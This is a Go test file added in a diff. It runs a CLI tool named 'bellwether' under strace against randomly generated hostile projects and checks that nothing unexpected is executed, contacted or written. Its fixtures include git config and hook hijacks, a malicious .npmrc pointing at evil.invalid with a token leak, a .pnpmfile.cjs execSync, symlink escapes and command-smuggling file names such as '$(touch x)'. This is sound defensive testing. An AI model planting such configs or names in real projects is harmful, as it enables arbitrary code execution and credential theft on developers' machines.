@@ -1,0 +1,346 @@
+//go:build linux
+
+package cli
+
+import (
+	"bufio"
+	"context"
+	"errors"
+	"flag"
+	"fmt"
+	"math/rand/v2"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"slices"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"bellwether/internal/host/within"
+	"bellwether/internal/standin/shorthand"
+)
+
+var hostiles = flag.Int("hostiles", 100, "how many hostile projects TestTraced makes")
+
+// TestTraced runs commands on projects that somebody else made to do harm, under a
+// tracer: no process is started but those of a list, nothing is asked of the network but
+// the registry, and no file is changed outside of the project, the person's folders and
+// temporary ones. What lies outside of the project is not even read by its leave.
+func TestTraced(t *testing.T) {
+	if testing.Short() {
+		t.Skip()
+	}
+	if out, err := exec.Command("strace", "-f", "-e", "trace=execve", "true").CombinedOutput(); err != nil {
+		t.Skipf("nothing can be traced here: %v: %s", err, out)
+	}
+	u, err := shorthand.Load("left 1.0.0\nleft 1.1.0\n")
+	require.NoError(t, err)
+	server := httptest.NewServer(u.NPM())
+	defer server.Close()
+	cache := t.TempDir() // what tools say of their versions is asked once
+	t.Run("projects", func(t *testing.T) {
+		for seed := range *hostiles {
+			t.Run(fmt.Sprint(seed), func(t *testing.T) {
+				t.Parallel()
+				h := newHostile(t, uint64(seed), server.URL)
+				h.cache = cache
+				h.trace(t, h.command())
+			})
+		}
+	})
+}
+
+// hostile is a project with all kinds of things in it that do harm to who trusts them.
+type hostile struct {
+	seed     uint64
+	rng      *rand.Rand
+	registry string
+	dir      string   // all that belongs to the case
+	root     string   // the project
+	outside  string   // where nobody has to be
+	cache    string   // the person's
+	made     []string // what was put into it
+}
+
+func newHostile(t *testing.T, seed uint64, registry string) *hostile {
+	dir, err := filepath.EvalSymlinks(t.TempDir())
+	require.NoError(t, err)
+	h := &hostile{seed: seed, rng: rand.New(rand.NewPCG(seed, 13)), registry: registry, dir: dir, root: filepath.Join(dir, "project"), outside: filepath.Join(dir, "outside")}
+	for _, d := range []string{h.root, h.outside, filepath.Join(dir, "home"), filepath.Join(dir, "tmp")} {
+		require.NoError(t, os.Mkdir(d, 0o755))
+	}
+	require.NoError(t, os.WriteFile(filepath.Join(h.outside, "secret"), []byte("package.json"), 0o644))
+	program := "#!/bin/sh\ntouch " + filepath.Join(h.outside, "ran") + "\ncat\n"
+	require.NoError(t, os.WriteFile(filepath.Join(h.outside, "program"), []byte(program), 0o755))
+	h.write("package.json", `{ "dependencies": { "left": "^1.0.0" } }`)
+	h.write("package-lock.json", `{ "lockfileVersion": 3, "packages": { "": { "dependencies": { "left": "^1.0.0" } }, "node_modules/left": { "version": "1.0.0" } } }`)
+	h.write("bellwether.yaml", "stages:\n  - {name: fetch, skip: nothing is installed here}\n")
+	if h.rng.IntN(4) > 0 {
+		h.git("init", "-q", "-b", "main")
+		h.git("add", "-A")
+		h.git("-c", "user.name=x", "-c", "user.email=x@x.example", "commit", "-q", "-m", "start")
+	}
+	for range 1 + h.rng.IntN(6) {
+		trap := traps[h.rng.IntN(len(traps))]
+		h.made = append(h.made, trap.name)
+		trap.lay(h)
+	}
+	return h
+}
+
+func (h *hostile) git(args ...string) {
+	cmd := exec.Command("git", append([]string{"-C", h.root}, args...)...)
+	cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL="+os.DevNull)
+	_ = cmd.Run()
+}
+
+// put makes something in the project, unless that is behind a link.
+func (h *hostile) put(name string, make func(at string) error) {
+	root, err := os.OpenRoot(h.root)
+	if err != nil {
+		return
+	}
+	defer root.Close()
+	dir := filepath.Dir(filepath.Clean(name))
+	_ = root.MkdirAll(dir, 0o755)
+	real, err := filepath.EvalSymlinks(filepath.Join(h.root, dir))
+	if err != nil || real != filepath.Join(h.root, dir) {
+		return
+	}
+	_ = root.RemoveAll(name)
+	_ = make(filepath.Join(h.root, name))
+}
+
+func (h *hostile) write(name, text string) {
+	h.put(name, func(at string) error { return os.WriteFile(at, []byte(text), 0o755) })
+}
+
+func (h *hostile) link(target, name string) {
+	h.put(name, func(at string) error { return os.Symlink(target, at) })
+}
+
+func (h *hostile) pipe(name string) {
+	h.put(name, func(at string) error { return syscall.Mkfifo(at, 0o644) })
+}
+
+// pick is one of some texts.
+func (h *hostile) pick(texts ...string) string { return texts[h.rng.IntN(len(texts))] }
+
+// trap is something that does harm to who trusts it.
+type trap struct {
+	name string
+	lay  func(h *hostile)
+}
+
+var traps = []trap{
+	{"a link to a secret", func(h *hostile) {
+		h.link(filepath.Join(h.outside, "secret"), h.pick("package.json", "package-lock.json", ".npmrc", "bellwether.yaml", ".nvmrc", "go.mod", "Dockerfile", "a/package.json"))
+	}},
+	{"a link to a device", func(h *hostile) {
+		h.link(h.pick("/dev/zero", "/dev/random", "/dev/tty", "/proc/self/mem"), h.pick(".npmrc", "bellwether.yaml", ".nvmrc", "package-lock.json", "Dockerfile"))
+	}},
+	{"a link to a folder", func(h *hostile) {
+		h.link(h.pick(h.outside, "/", ".", "..", "../project"), h.pick(".bellwether", "a", "b/c", "node_modules", "vendor", ".bellwether/logs", ".bellwether/journal", ".bellwether/scratch"))
+	}},
+	{"a link in place of what is kept", func(h *hostile) {
+		h.link(filepath.Join(h.outside, "written"), h.pick(".bellwether/lock", ".bellwether/.gitignore", ".bellwether/route.yaml", ".bellwether/journey.json", ".bellwether/owner.json", ".bellwether/baseline.json"))
+	}},
+	{"a pipe", func(h *hostile) {
+		h.pipe(h.pick(".npmrc", "bellwether.yaml", ".nvmrc", "package-lock.json", "package.json", "Dockerfile", ".bellwether/route.yaml", ".bellwether/lock", ".bellwether/git.json"))
+	}},
+	{"a large file", func(h *hostile) {
+		name := h.pick("bellwether.yaml", ".npmrc", "package-lock.json", ".nvmrc", ".bellwether/route.yaml")
+		h.put(name, func(at string) error { return errors.Join(os.WriteFile(at, nil, 0o644), os.Truncate(at, within.MaxFile+1)) })
+	}},
+	{"a planted journal", func(h *hostile) {
+		h.write(".bellwether/journal/000", "evil")
+		h.write(".bellwether/journal/record.json", `{"files": [{"file": "`+h.pick("evil", ".git/hooks/post-commit", "../outside/written", "package.json")+`", "before": "", "after": "4f0aa9d9cc6bb1b3ac0a9b0c0e2a8b7b3b0e4c5a", "mode": 493}]}`)
+	}},
+	{"planted notes", func(h *hostile) {
+		h.write(".bellwether/git.json", `{"mark": "x", "what": "`+h.pick("reset", "commit", "switch")+`", "from": "HEAD~1", "to": "HEAD"}`)
+		h.write(".bellwether/scratch/outside", h.outside)
+	}},
+	{"a planted journey", func(h *hostile) {
+		h.write(".bellwether/before/x/000", "evil")
+		h.write(".bellwether/journey.json", `{"legs": [{"id": "x", "title": "x", "status": "`+h.pick("repair", "done", "begun")+`", "files": ["`+h.pick("package.json", "../outside/written", ".git/config")+`"]}]}`)
+	}},
+	{"a planted route", func(h *hostile) {
+		h.write(".bellwether/route.yaml", "schema: bellwether/route/1\ndestination: [left]\nadvisories: "+h.outside+"\nlegs:\n  - id: "+h.pick("x", "..", "../../outside", "a/b")+"\n    title: x\n    component: .\n    moves: [{name: left, from: 1.0.0, to: 1.1.0}]\n")
+	}},
+	{"names that nobody writes", func(h *hostile) {
+		name := h.pick("\xff\xfe", "a\nb", "-rf", "--upload-pack=x", "\x1b[2J", "\u202eabc", " ", "$(touch x)", strings.Repeat("x", 250))
+		h.write(filepath.Join(name, "package.json"), `{"name": "\u001b[2J", "dependencies": {"left": "^1.0.0"}}`)
+	}},
+	{"git's configuration", func(h *hostile) {
+		p := filepath.Join(h.outside, "program")
+		h.git("config", h.pick("core.fsmonitor", "core.hooksPath", "core.sshCommand", "core.pager", "diff.external", "gpg.program", "credential.helper", "core.editor", "core.alternateRefsCommand", "core.askPass"), p)
+		h.git("config", "filter.x."+h.pick("clean", "process", "smudge"), p)
+		h.git("config", h.pick("core.worktree", "include.path", "core.excludesFile", "core.attributesFile"), h.pick("/", h.outside, "/dev/zero", filepath.Join(h.outside, "secret")))
+		h.write(".gitattributes", "* filter=x diff=x\n")
+	}},
+	{"hooks", func(h *hostile) {
+		for _, name := range []string{"pre-commit", "post-checkout", "post-index-change", "reference-transaction", "fsmonitor-watchman"} {
+			h.link(filepath.Join(h.outside, "program"), ".git/hooks/"+name)
+		}
+	}},
+	{"a bare repository", func(h *hostile) {
+		for name, text := range map[string]string{"HEAD": "ref: refs/heads/main\n", "config": "[core]\n\tbare = true\n\tfsmonitor = " + filepath.Join(h.outside, "program") + "\n", "objects/x": "", "refs/heads/x": ""} {
+			h.write(filepath.Join(h.pick("", "a", "b/c"), name), text)
+		}
+	}},
+	{"settings of clients", func(h *hostile) {
+		p := filepath.Join(h.outside, "program")
+		h.write(h.pick(".yarnrc", "a/.yarnrc"), "yarn-path \""+p+"\"\n")
+		h.write(".yarnrc.yml", "yarnPath: "+p+"\n")
+		h.write(".npmrc", h.pick("node-options=--require "+p, "script-shell="+p, "git="+p, "registry=https://evil.invalid/${HOME}/", "proxy=http://127.0.0.1:9/", "cafile="+filepath.Join(h.outside, "secret"), "//evil.invalid/:_authToken=${HOME}")+"\n")
+		h.write(".pnpmfile.cjs", "require('child_process').execSync('"+p+"')\n")
+	}},
+	{"toolchains", func(h *hostile) {
+		h.write("g/go.mod", "module own.example/g\n\ngo 1.99\n\ntoolchain go1.99.9\n")
+		h.write("g/g.go", "package g\n")
+		h.write("rust-toolchain.toml", "[toolchain]\nchannel = \"9.9.9\"\n")
+		h.write("global.json", `{"sdk": {"version": "9.9.9"}}`)
+		h.write(".tool-versions", "nodejs 99.9.9\nruby 9.9.9\n")
+	}},
+	{"patterns that lead out", func(h *hostile) {
+		h.link(h.outside, "away")
+		h.write("bellwether.yaml", "stages:\n  - {name: fetch, skip: x}\n  - {name: clean, remove: ['away/**', 'away', '**/secret']}\n  - {name: test, command: ['true'], results: ['away/*', '**/*']}\n")
+	}},
+	{"a folder that nobody reads", func(h *hostile) {
+		h.write("closed/package.json", "{}")
+		h.put("locked", func(at string) error { return os.Mkdir(at, 0) })
+	}},
+	{"deep folders", func(h *hostile) { h.write(strings.Repeat("d/", 300)+"package.json", "{}") }},
+	{"a loop of links", func(h *hostile) {
+		h.link("loop2", "loop1")
+		h.link("loop1", "loop2")
+		h.link("package.json", "package.json")
+	}},
+}
+
+// command is one that is run on the project.
+func (h *hostile) command() []string {
+	reading := [][]string{{"survey"}, {"survey", "--offline"}, {"prereqs"}, {"route", "--reach", "minor"}, {"explain", "left"}, {"status"}, {"books"}, {"route", "--reach", "major", "--format", "json"}}
+	acting := [][]string{{"verify"}, {"advance"}, {"undo"}, {"culprit"}, {"tick", "x", "--pass"}, {"status", "--adopt"}}
+	all := append(reading, acting...)
+	return all[h.rng.IntN(len(all))]
+}
+
+// allowed are the programs that may run: what is asked for its version, git, and the
+// shell that version managers wrap it in. "true" is a stage of the project's own.
+var allowed = []string{
+	"bellwether", "git", "node", "npm", "go", "python3", "ruby", "java", "php", "rustc", "dotnet", "elixir", "erl", "swift", "dart",
+	"yarn", "pnpm", "gradle", "mvn", "docker", "cmake", "make", "gcc", "terraform", "true",
+}
+
+// within tells whether a program is started by one that is only asked for its version:
+// many of those are scripts.
+var script = []string{"sh", "bash", "dash", "env", "pyenv", "readlink", "dirname", "uname", "basename", "expr", "rustup", "ls", "cut", "tr", "sed", "grep", "head", "id", "tty", "cat", "dpkg-architecture", "dpkg", "corepack", "mktemp"}
+
+var (
+	executed  = regexp.MustCompile(`execve\("([^"]*)"`)
+	changed   = regexp.MustCompile(`(?:unlinkat|mkdirat|renameat2?|symlinkat|linkat|mknodat|fchmodat|unlink|mkdir|rmdir|rename|symlink|link|chmod|truncate|mknod)\((.*)\) = 0`)
+	opened    = regexp.MustCompile(`open(?:at)?\((?:(AT_FDCWD|[0-9]+)(?:<([^>]*)>)?, )?"([^"]*)", ([A-Z_|0-9]+).*\) = [0-9]`)
+	connected = regexp.MustCompile(`connect\([0-9]+(?:<[^>]*>)?, \{sa_family=AF_INET6?, sin6?_port=htons\(([0-9]+)\)`)
+	quotes    = regexp.MustCompile(`(?:(?:AT_FDCWD|[0-9]+)(?:<([^>]*)>)?, )?"([^"]*)"`)
+)
+
+// traceWithin is how long a command may take under the tracer.
+const traceWithin = 30 * time.Second
+
+// trace runs a command under a tracer, and looks through what it did.
+func (h *hostile) trace(t *testing.T, command []string) {
+	log := filepath.Join(h.dir, "trace")
+	program := filepath.Join(strings.SplitN(os.Getenv("PATH"), string(os.PathListSeparator), 2)[0], "bellwether")
+	args := append([]string{"--seccomp-bpf", "-f", "-y", "-s", "4096", "-o", log, "-e", "trace=execve,connect,open,openat,unlink,unlinkat,mkdir,mkdirat,rmdir,rename,renameat,renameat2,symlink,symlinkat,link,linkat,mknod,mknodat,chmod,fchmodat,truncate", program}, command...)
+	ctx, cancel := context.WithTimeout(t.Context(), traceWithin)
+	defer cancel()
+	cmd := exec.CommandContext(ctx, "strace", args...)
+	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
+	cmd.Cancel = func() error { return syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) }
+	cmd.WaitDelay = time.Second
+	cmd.Dir = h.root
+	cmd.Env = append(os.Environ(), "HOME="+filepath.Join(h.dir, "home"), "XDG_CACHE_HOME="+h.cache, "XDG_STATE_HOME="+filepath.Join(h.dir, "home", "state"),
+		"TMPDIR="+filepath.Join(h.dir, "tmp"), "npm_config_registry="+h.registry+"/", "npm_config_fetch_timeout=2000", "GOPROXY=off", "GOSUMDB=off", "GOFLAGS=", "GOENV=off",
+		"GIT_AUTHOR_NAME=x", "GIT_AUTHOR_EMAIL=x@x.example", "GIT_COMMITTER_NAME=x", "GIT_COMMITTER_EMAIL=x@x.example")
+	out, err := cmd.CombinedOutput()
+	about := fmt.Sprintf("seed %d, %s: %v\n%s", h.seed, strings.Join(h.made, ", "), command, out)
+	require.NoError(t, ctx.Err(), "it does not come to an end: %s", about)
+	if err != nil {
+		status := cmd.ProcessState.ExitCode()
+		assert.Contains(t, []int{exitProblem, exitUsage, exitOutside}, status, about)
+		assert.NotContains(t, string(out), "panic:", about)
+	}
+	assert.NotContains(t, string(out), "\x1b", about)
+	assert.NoFileExists(t, filepath.Join(h.outside, "ran"), about)
+	assert.NoFileExists(t, filepath.Join(h.outside, "written"), about)
+	acts := !slices.Contains([]string{"survey", "prereqs", "explain", "books", "route", "status"}, command[0]) || slices.Contains(command, "--adopt")
+	file, err := os.Open(log)
+	require.NoError(t, err)
+	defer file.Close()
+	lines := bufio.NewScanner(file)
+	lines.Buffer(nil, 1<<20)
+	for lines.Scan() {
+		h.judge(t, lines.Text(), acts, slices.Contains(command, "--offline"), about)
+	}
+	require.NoError(t, lines.Err())
+	entries, err := os.ReadDir(filepath.Join(h.dir, "tmp"))
+	require.NoError(t, err)
+	for _, e := range entries {
+		assert.False(t, strings.HasPrefix(e.Name(), "bellwether-") && !strings.HasPrefix(e.Name(), "bellwether-state"), "%s is left: %s", e.Name(), about)
+	}
+}
+
+// judge looks at one thing that was done.
+func (h *hostile) judge(t *testing.T, line string, acts, offline bool, about string) {
+	if strings.HasSuffix(line, ")") || strings.Contains(line, " open") && !strings.Contains(line, "O_WRONLY") && !strings.Contains(line, "O_RDWR") && !strings.Contains(line, "O_CREAT") && !strings.Contains(line, h.outside) {
+		return // it failed, or only reads
+	}
+	if m := executed.FindStringSubmatch(line); m != nil && strings.HasSuffix(line, "= 0") {
+		name := filepath.Base(m[1])
+		known := slices.Contains(allowed, name) || slices.Contains(script, name) || strings.HasPrefix(name, "git-") || strings.HasPrefix(name, "python") || strings.HasPrefix(name, "java")
+		assert.True(t, known && !strings.HasPrefix(m[1], h.dir), "%s was run: %s", m[1], about)
+	}
+	if m := connected.FindStringSubmatch(line); m != nil {
+		_, port, _ := strings.Cut(strings.TrimPrefix(h.registry, "http://"), ":")
+		assert.True(t, m[1] == port && !offline, "port %s was asked: %s", m[1], about)
+	}
+	at := func(folder, name string) string {
+		if !filepath.IsAbs(name) {
+			name = filepath.Join(folder, name)
+		}
+		return filepath.Clean(name)
+	}
+	change := func(name string) {
+		ok := slices.ContainsFunc([]string{h.cache, filepath.Join(h.dir, "home"), filepath.Join(h.dir, "tmp"), "/dev", "/proc", filepath.Join(h.root, ".bellwether")}, func(d string) bool {
+			return name == d || strings.HasPrefix(name, d+"/")
+		})
+		ok = ok || acts && (name == h.root || strings.HasPrefix(name, h.root+"/")) || strings.HasPrefix(name, "/tmp/hsperfdata") || strings.HasPrefix(name, os.Getenv("HOME")+"/.pyenv/shims")
+		assert.True(t, ok, "%s was changed: %s\n%s", name, about, line)
+	}
+	if m := opened.FindStringSubmatch(line); m != nil {
+		name := at(m[2], m[3])
+		assert.False(t, strings.HasPrefix(name, h.outside+"/"), "%s was opened: %s", name, about)
+		if strings.Contains(m[4], "O_WRONLY") || strings.Contains(m[4], "O_RDWR") || strings.Contains(m[4], "O_CREAT") {
+			change(name)
+		}
+	}
+	if m := changed.FindStringSubmatch(line); m != nil {
+		names := quotes.FindAllStringSubmatch(m[1], -1)
+		if strings.Contains(line, "symlink") { // where it leads is not touched
+			names = names[max(0, len(names)-1):]
+		}
+		for _, q := range names {
+			if q[1] != "" || filepath.IsAbs(q[2]) {
+				change(at(q[1], q[2]))
+			}
+		}
+	}
+}
